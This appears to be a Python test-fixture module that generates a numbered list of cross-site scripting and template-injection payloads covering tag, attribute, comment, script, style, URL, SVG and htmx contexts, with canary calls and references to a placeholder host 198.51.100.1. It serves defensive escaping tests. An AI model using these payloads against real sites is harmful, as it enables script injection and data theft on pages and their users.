"""Text that would run, or draw, or reach out, if any page ever took it for markup.

Each calls ``ran(n)`` or plants an element marked ``data-planted``, and carries its own number. They cover the
places where text can stand: between tags, in an attribute with either quote or none, in a textarea, a title, a
comment, a script, a style, a URL, an SVG, and the attributes that htmx would obey.
"""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from itertools import product

ESCAPES = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</script>",
    "</style>",
    "-->",
    "]]>",
    "&#34;>",
    "{{",
    "{%",
)
"""What closes the place the text stands in."""

TAGS = (
    "<script>ran({n})</script>",
    "<script src=//198.51.100.1/{n}></script>",
    "<img src=x onerror=ran({n})>",
    "<svg onload=ran({n})>",
    "<svg><script>ran({n})</script></svg>",
    "<svg><animate onbegin=ran({n}) attributeName=x dur=1s>",
    "<body onload=ran({n})>",
    "<input autofocus onfocus=ran({n})>",
    "<details open ontoggle=ran({n})>",
    "<video><source onerror=ran({n})></video>",
    "<iframe srcdoc='<script>parent.ran({n})</script>'></iframe>",
    "<iframe src=javascript:parent.ran({n})></iframe>",
    "<object data=javascript:ran({n})></object>",
    "<math><mtext><img src=x onerror=ran({n})></mtext></math>",
    "<style>@import '//198.51.100.1/{n}';</style>",
    "<link rel=stylesheet href=//198.51.100.1/{n}>",
    "<meta http-equiv=refresh content='0;url=javascript:ran({n})'>",
    "<base href=//198.51.100.1/>",
    "<b data-planted={n}>x</b>",
    "<b style=color:red data-planted={n}>x</b>",
    "<a href=javascript:ran({n}) data-planted={n}>x</a>",
    "<form action=//198.51.100.1><button data-planted={n}>x</button></form>",
    "<b hx-get=/x hx-trigger=load data-planted={n}>x</b>",
    "<b hx-on:load=ran({n}) hx-trigger=load data-planted={n}>x</b>",
)

ATTRIBUTES = (
    "{q} onfocus={q}ran({n}){q} autofocus {q}",
    "{q} onmouseover={q}ran({n}){q} data-planted={q}{n}{q} {q}",
    "{q} style={q}background:url(//198.51.100.1/{n}){q} {q}",
    "{q} hx-get={q}/x{q} hx-trigger={q}load{q} data-planted={q}{n}{q} {q}",
)

ODD = (
    "javascript:ran({n})",
    "data:text/html,<script>ran({n})</script>",
    "<scr<script>ipt>ran({n})</scr</script>ipt>",
    "<<script>ran({n})//<</script>",
    "<ScRiPt>ran({n})</sCrIpT>",
    "<img/src=x/onerror=ran({n})>",
    "<img src=x onerror\n=\nran({n})>",
    "\u2028<img src=x onerror=ran({n})>",
    "+ADw-script+AD4-ran({n})+ADw-/script+AD4-",
    "\uff1cscript\uff1eran({n})\uff1c/script\uff1e",
    "&lt;script&gt;ran({n})&lt;/script&gt;",
    "%3Cscript%3Eran({n})%3C/script%3E",
    "{{ran({n})}}",
    "${{ran({n})}}",
    "{% csrf_token %}<b data-planted={n}>",
    "[x](javascript:ran({n}))",
    "![x](//198.51.100.1/{n})",
    "<img src=//198.51.100.1/{n}>",
    "<noscript><p title='</noscript><img src=x onerror=ran({n})>'>",
    "<template><script>ran({n})</script></template>",
    "<xmp><img src=x onerror=ran({n})></xmp>",
    "<!--><img src=x onerror=ran({n})>-->",
    "\u202e<b data-planted={n}>\u202c",
)


def _all() -> Iterator[str]:
    yield from (escape + tag for escape, tag in product(ESCAPES[:12], TAGS))
    yield from (text.replace("{q}", quote) for text, quote in product(ATTRIBUTES, ('"', "'", "`")))
    yield from ODD
    yield from (escape + ODD[0] for escape in ESCAPES[12:])


PAYLOADS: Sequence[str] = tuple(text.replace("{n}", str(n)) for n, text in enumerate(_all()))
"""All of them, each with its number."""

FEW: Sequence[str] = (*PAYLOADS[: len(TAGS)], *PAYLOADS[len(TAGS) : 12 * len(TAGS) : 13], *PAYLOADS[12 * len(TAGS) :])
"""Each tag, each way out of an attribute, each oddity; and every thirteenth of the combinations."""


def sheets(payloads: Sequence[str], longest: int) -> list[str]:
    """Payloads set side by side on as few sheets of ``longest`` characters as it takes; longer ones are left out."""
    found = [""]
    for payload in payloads:
        if len(payload) > longest:
            continue
        if len(found[-1]) + len(payload) + 1 > longest:
            found.append("")
        found[-1] += payload + " "
    return [sheet.strip() for sheet in found]
